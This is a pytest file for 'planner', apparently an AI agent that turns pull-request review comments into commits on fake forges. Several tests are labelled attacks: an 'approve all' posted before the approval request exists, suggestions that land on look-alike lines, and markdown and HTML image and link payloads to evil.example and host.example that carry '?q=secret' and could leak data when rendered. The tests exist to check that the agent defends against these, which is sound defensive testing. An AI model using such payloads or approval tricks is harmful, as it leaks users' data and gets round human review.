"""Review feedback on planner's pull request in the setup a user gets: the default history folder
`planning_history` inside the checkout (kept out of git by the pass's set-up), end to end on the
fake forges with the scripted model (issue 55).

Each test performs one thing that went wrong and fails while it happens: a suggestion committed
before the history was kept out of git (refused, written back, reverted by the next commit), a
waiting task told so again on every run, GitLab's suggestion ranges, a suggestion applied
where its lines merely look alike, an `approve all` on the pull request written before the
request was shown, and a live image in a review reply.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from planner.ci.forges.base import TRACKING_MARKER
from planner.ci.forges.github import GitHubForge
from planner.ci.review.answers import REVIEW_REPLY_MARKER
from planner.testing.steps import reply_tool_calls
from planner.text.markdown import rendered_links
from tests.fake_forge import FakeGitHub, FakeGitLab
from tests.fake_forge.core import git
from tests.fake_forge.scenario import comment_event
from tests.plans import completion, finish, write
from tests.review_scenario import (
    DEFAULT_LAYOUT,
    MEAN,
    NONE_CASE,
    SETTINGS,
    STATS,
    branch_of,
    commits_on_branch,
    diff_note_event,
    edit,
    github_reviewed,
    gitlab_reviewed,
    largest_fixed,
    on_branch,
    push_on_branch,
    review_event,
    smallest_fixed,
)

DEFAULT: dict[str, Any] = {**SETTINGS, **DEFAULT_LAYOUT}
"""The tests' settings with the history where the default config keeps it."""
REVIEW, COMMENT = "pull_request_review", "issue_comment"
HIGH = {"approval.large_file_bytes": 20}  # stats.py is then a large file: writing it waits


def replies(comments: list[Any]) -> list[str]:
    return [c.body for c in comments if REVIEW_REPLY_MARKER in c.body]


def versions(fake: FakeGitHub | FakeGitLab) -> list[bytes]:
    """stats.py in every commit of the branch that main lacks, oldest first."""
    commits = list(reversed(commits_on_branch(fake)))
    return [on_branch(fake, ref=commit) for commit in commits]


def test_a_suggestion_and_two_line_comments_are_committed_replied_and_resolved_once(
    fake_github: FakeGitHub, tmp_path: Path
) -> None:
    """Item 1: a multi-line suggestion typed in the web editor (CRLF, trailing spaces, a tab,
    non-ASCII) and two line comments, with the history inside the checkout. The suggestion is
    committed byte for byte and no later commit undoes it; each thread gets one reply and is
    resolved on a commit whose tests pass; nothing of the history is committed."""
    rig = github_reviewed(fake_github, tmp_path, **DEFAULT_LAYOUT)
    before = commits_on_branch(fake_github)
    [pull] = fake_github.pulls.values()
    lines = ["def largest(values, default=None):  ", "\treturn max(values, default=default)  # é"]
    body = "Better:\r\n```suggestion\r\n" + "\r\n".join(lines) + "\r\n```\r\n"
    suggested = fake_github.add_review_thread(pull.number, "stats.py", 6, body, start_line=5)
    smallest = fake_github.add_review_thread(pull.number, "stats.py", 10, NONE_CASE)
    mean = fake_github.add_review_thread(pull.number, "stats.py", 2, "An empty list gives 0")
    script = [
        *smallest_fixed(),
        edit(
            "return sum(values) / len(values)", "return sum(values) / len(values) if values else 0"
        ),
        finish(summary="mean() returns 0 for an empty list"),
        completion(completed=3),
    ]

    outcome = rig.run(review_event(fake_github, "/planner"), script, event_name=REVIEW, **DEFAULT)

    assert outcome.status == "completed", outcome.reason
    expected = (
        MEAN.replace("len(values)\n", "len(values) if values else 0\n")
        + "\n\n"
        + "\n".join(lines)
        + "\n\n\ndef smallest(values):\n    return min(values) if values else None\n"
    ).encode()
    assert on_branch(fake_github) == expected
    new = [c for c in commits_on_branch(fake_github) if c not in before]
    assert len(new) == 3  # the suggestion's commit, then one per task: nothing reverted
    applied = "\n".join(lines).encode()
    assert all(applied in version for version in versions(fake_github)[-3:])
    tree = git(fake_github.bare, "ls-tree", "-r", "--name-only", branch_of(fake_github))
    assert "planning_history" not in tree
    [suggestion_commit] = new[-1:]
    [reply] = replies(suggested.comments)
    assert f"Applied the suggestion as written in {suggestion_commit}." in reply
    assert "so the thread is resolved" in reply and suggested.resolved
    for thread in (smallest, mean):
        [reply] = replies(thread.comments)
        assert "Changed in " in reply and "No test that passed before fails" in reply
        assert thread.resolved


def test_a_task_still_waiting_is_told_so_once_and_answered_when_done(
    fake_github: FakeGitHub, tmp_path: Path
) -> None:
    """Item 2: two runs stop before the task is done, for the same reason: one "Not done yet"
    in the thread, not two; the run that finishes it gives the final reply."""
    rig = github_reviewed(fake_github, tmp_path, **DEFAULT_LAYOUT)
    [pull] = fake_github.pulls.values()
    thread = fake_github.add_review_thread(pull.number, "stats.py", 6, NONE_CASE)
    budget = {**DEFAULT, "budget.max_model_calls": 1}
    look = reply_tool_calls("execute", [("read_file", {"path": "stats.py"})])

    first = rig.run(review_event(fake_github, "/planner"), [look], event_name=REVIEW, **budget)
    made = fake_github.comment_json(fake_github.add_comment(1, "/planner resume"))
    second = rig.run(comment_event("/planner resume", made), [look], event_name=COMMENT, **budget)

    assert first.status == second.status == "in_progress", (first.reason, second.reason)
    [waiting] = replies(thread.comments)
    assert waiting.count("Not done yet: the run stopped before it") == 1
    steps = [
        *largest_fixed(),
        completion(),
    ]
    made = fake_github.comment_json(fake_github.add_comment(1, "/planner resume"))
    done = rig.run(comment_event("/planner resume", made), steps, event_name=COMMENT, **DEFAULT)
    assert done.status == "completed", done.reason
    [_, final] = replies(thread.comments)
    assert "Changed in " in final and thread.resolved


def test_a_suggestion_whose_lines_changed_is_not_applied_to_a_copy_elsewhere(
    fake_github: FakeGitHub, tmp_path: Path
) -> None:
    """Item 4, the attack: a writer suggests a change to `largest`; before planner runs, a
    person rewrites that line and adds a function holding the same line. The suggestion must
    not land in the other function: not committed, not counted as the writer's approval, the
    thread reported outdated and left open."""
    rig = github_reviewed(fake_github, tmp_path, **DEFAULT_LAYOUT)
    [pull] = fake_github.pulls.values()
    body = "```suggestion\n    return max(values) if values else None\n```"
    thread = fake_github.add_review_thread(pull.number, "stats.py", 6, body)
    other = "\n\ndef peak(values):\n    return max(values)\n"
    changed = STATS.replace("return max(values)", "return sorted(values)[-1]") + other
    push_on_branch(fake_github, "stats.py", changed)
    head = commits_on_branch(fake_github)

    outcome = rig.run(review_event(fake_github, "/planner"), [], event_name=REVIEW, **DEFAULT)

    assert outcome.status == "completed", outcome.reason
    assert on_branch(fake_github) == changed.encode()
    assert commits_on_branch(fake_github) == head
    [reply] = replies(thread.comments)
    assert "The suggestion was not applied" in reply and "changed or moved since" in reply
    assert not thread.resolved


def test_gitlab_plain_and_ranged_suggestions_replace_exactly_their_lines(
    fake_gitlab: FakeGitLab, tmp_path: Path
) -> None:
    """Item 3: a plain ```suggestion on lines 9-10 replaces line 10 alone (GitLab's `-0+0`);
    `-1+2` on line 6 replaces lines 5-8, each of which reads as the reviewer saw it."""
    rig = gitlab_reviewed(fake_gitlab, tmp_path, **DEFAULT_LAYOUT)
    [mr] = fake_gitlab.merge_requests.values()
    plain = "```suggestion\n    return min(values) if values else None\n```"
    low = fake_gitlab.add_diff_discussion(mr.iid, "stats.py", 10, plain, start_line=9)
    ranged = (
        "/planner\n```suggestion:-1+2\ndef largest(values):\n    return max(values)\n# end\n\n```"
    )
    high = fake_gitlab.add_diff_discussion(mr.iid, "stats.py", 6, ranged)

    outcome = rig.run(diff_note_event(fake_gitlab, high.id), [completion(completed=2)], **DEFAULT)

    assert outcome.status == "completed", outcome.reason
    expected = MEAN + (
        "\n\ndef largest(values):\n    return max(values)\n# end\n\n"
        "def smallest(values):\n    return min(values) if values else None\n"
    )
    assert on_branch(fake_gitlab).decode() == expected
    for discussion in (low, high):
        assert "Applied the suggestion as written in " in discussion.notes[-1].body
        assert discussion.resolved


def test_gitlab_a_ranged_suggestion_whose_lines_moved_and_changed_is_not_applied(
    fake_gitlab: FakeGitLab, tmp_path: Path
) -> None:
    """Item 3: `-0+1` on line 5 replaces it and line 6. A person then adds a docstring on top
    (GitLab leaves the note on its head: outdated) and rewrites line 6. `def largest` still
    reads the same two lines further down, but the line below it is one the reviewer never
    saw: the suggestion is not applied there."""
    rig = gitlab_reviewed(fake_gitlab, tmp_path, **DEFAULT_LAYOUT)
    [mr] = fake_gitlab.merge_requests.values()
    body = "/planner\n```suggestion:-0+1\ndef largest(values):\n    return 0\n```"
    discussion = fake_gitlab.add_diff_discussion(mr.iid, "stats.py", 5, body)
    changed = '"""Statistics."""\n\n' + STATS.replace("return max(values)", "return values[0]")
    push_on_branch(fake_gitlab, "stats.py", changed)

    outcome = rig.run(diff_note_event(fake_gitlab, discussion.id), [], **DEFAULT)

    assert outcome.status == "completed", outcome.reason
    assert on_branch(fake_gitlab) == changed.encode()
    assert "The suggestion was not applied" in discussion.notes[-1].body
    assert not discussion.resolved


def test_an_approve_all_on_the_pull_request_written_before_the_request_approves_nothing(
    fake_github: FakeGitHub, tmp_path: Path
) -> None:
    """Item 5, the attack: a writer's `/planner approve all` lands on the pull request while a
    review's pass is still running, before the approval request exists; its event (or a
    redelivery of it) then arrives. It must not approve the high-risk write it never saw."""
    rig = github_reviewed(fake_github, tmp_path, **DEFAULT_LAYOUT)
    [pull] = fake_github.pulls.values()
    thread = fake_github.add_review_thread(pull.number, "stats.py", 6, NONE_CASE)
    early = fake_github.add_comment(pull.number, "/planner approve all")  # during the pass
    script = [write("stats.py", "largest = max\n")]  # an overwrite: high risk
    waiting = rig.run(
        review_event(fake_github, "/planner"), script, event_name=REVIEW, **DEFAULT, **HIGH
    )
    assert waiting.status == "needs_human", waiting.reason
    branch = on_branch(fake_github)

    payload = comment_event(early.body, fake_github.comment_json(early), pull.number)
    payload["issue"]["pull_request"] = {"url": f"{fake_github.api_url}/pulls/{pull.number}"}
    late = rig.run(payload, [], event_name=COMMENT, **DEFAULT, **HIGH)

    assert late.status == "needs_human", late.reason
    assert on_branch(fake_github) == branch  # nothing approved, nothing written
    [tracking] = [c.body for c in fake_github.comments_on(1) if "planner:tracking" in c.body]
    assert "written before the request it would answer was shown" in tracking
    assert not thread.resolved


def test_a_live_image_in_a_failing_tests_name_is_inert_in_the_reply(
    fake_github: FakeGitHub, tmp_path: Path
) -> None:
    """Item 6, the attack: the model writes a failing test whose id carries an image (it would
    send the query to the host when the reply is shown), links of every kind and HTML. The
    reply names the test, but nothing in it renders as a link or an image."""
    rig = github_reviewed(fake_github, tmp_path, **DEFAULT_LAYOUT)
    [pull] = fake_github.pulls.values()
    thread = fake_github.add_review_thread(pull.number, "stats.py", 2, "Test the mean of [3]")
    hostile = (  # no spaces: the test's id is one word in pytest's report
        "![x](https://host.example/p.png?q=secret)[a](https://host.example/a)"
        "<https://host.example/b>https://host.example/c;www.host.example/d;"
        "<img/src=https://host.example/i.png>;me@host.example;[r]:https://host.example/r"
    )
    test = (
        "import pytest\n\nfrom stats import mean\n\n\n"
        f"@pytest.mark.parametrize('values', [[3]], ids=[{hostile!r}])\n"
        "def test_one(values):\n    assert mean(values) == 4\n"
    )
    script = [
        write("tests/test_one.py", test),
        finish(summary="tested the mean of one value"),
    ]

    outcome = rig.run(
        review_event(fake_github, "/planner"),
        script,
        event_name=REVIEW,
        **DEFAULT,
        **{"verification.max_repair_attempts": 0},
    )

    assert outcome.status == "needs_human", outcome.reason
    [reply] = replies(thread.comments)
    assert "Tests fail (tests/test_one.py::test_one\\[" in reply and "host" in reply
    assert rendered_links(reply) == []
    assert "<img" not in reply and "![" not in reply


def test_a_task_a_later_run_finishes_is_answered_with_the_commit_of_its_change(
    fake_github: FakeGitHub, tmp_path: Path
) -> None:
    """The task's change (a new test file, not the commented lines) is written by the run that
    stops at its budget and committed with that run's work; the next run only finishes the
    task. The thread is answered with the commit that holds the change, not "No change made"."""
    rig = github_reviewed(fake_github, tmp_path, **DEFAULT_LAYOUT)
    [pull] = fake_github.pulls.values()
    thread = fake_github.add_review_thread(pull.number, "stats.py", 6, "Add a test for this")
    test = "from stats import largest\n\n\ndef test_largest():\n    assert largest([1, 3]) == 3\n"
    budget = {**DEFAULT, "budget.max_model_calls": 1}
    paused = rig.run(
        review_event(fake_github, "/planner"),
        [write("tests/test_largest.py", test)],
        event_name=REVIEW,
        **budget,
    )
    assert paused.status == "in_progress", paused.reason
    [written] = commits_on_branch(fake_github)[:1]

    made = fake_github.comment_json(fake_github.add_comment(1, "/planner resume"))
    steps = [finish(summary="tests/test_largest.py checks largest()"), completion()]
    done = rig.run(comment_event("/planner resume", made), steps, event_name=COMMENT, **DEFAULT)

    assert done.status == "completed", done.reason
    assert commits_on_branch(fake_github)[0] == written  # the finishing run committed nothing
    final = replies(thread.comments)[-1]
    assert f"Changed in {written}: tests/test_largest.py checks largest()" in final
    assert thread.resolved


HOSTILE = {
    "image": "![x](https://evil.example/p.png?q=secret)",
    "link": "[docs](https://evil.example/)",
    "reference": "[docs][r]\n\n[r]: https://evil.example/r",
    "autolink": "<https://evil.example/a>",
    "bare": "https://evil.example/bare and www.evil.example",
    "html image": '<img src="https://evil.example/i.png">',
    "html link": '<a href="https://evil.example/h">h</a>',
}


def test_every_body_planner_posts_is_checked_for_links_and_images_at_the_forge(
    fake_github: FakeGitHub,
) -> None:
    """Attack: text a caller forgot to make inert (a model's words in a new message, a test
    name) holds every kind of link and image. Whatever planner posts through the adapter — a
    comment, its edit, a review reply, a pull request's body — reaches the forge with none of
    them live; planner's own markers and links to its own host stay."""
    forge = GitHubForge(
        repository=fake_github.repository,
        token=fake_github.token,
        api_url=fake_github.api_url,
        server_url=fake_github.base_url,
    )
    fake_github.add_issue(1, "Anything")
    own = f"[the run]({fake_github.base_url}/{fake_github.repository}/actions/runs/1)"
    body = "\n\n".join([TRACKING_MARKER, own, *HOSTILE.values()])

    made = forge.post_comment(1, body)
    forge.edit_comment(1, made.id, body + "\n\nedited")

    [posted] = [c.body for c in fake_github.comments_on(1)]
    assert posted.startswith(TRACKING_MARKER) and "edited" in posted
    assert not [link for link in rendered_links(posted) if "evil.example" in link]
    for kind, text in HOSTILE.items():
        checked = forge.outgoing(f"{own}\n\n{text}")
        assert not [link for link in rendered_links(checked) if "evil.example" in link], kind
    assert forge.outgoing(f"{TRACKING_MARKER}\n{own}") == f"{TRACKING_MARKER}\n{own}"
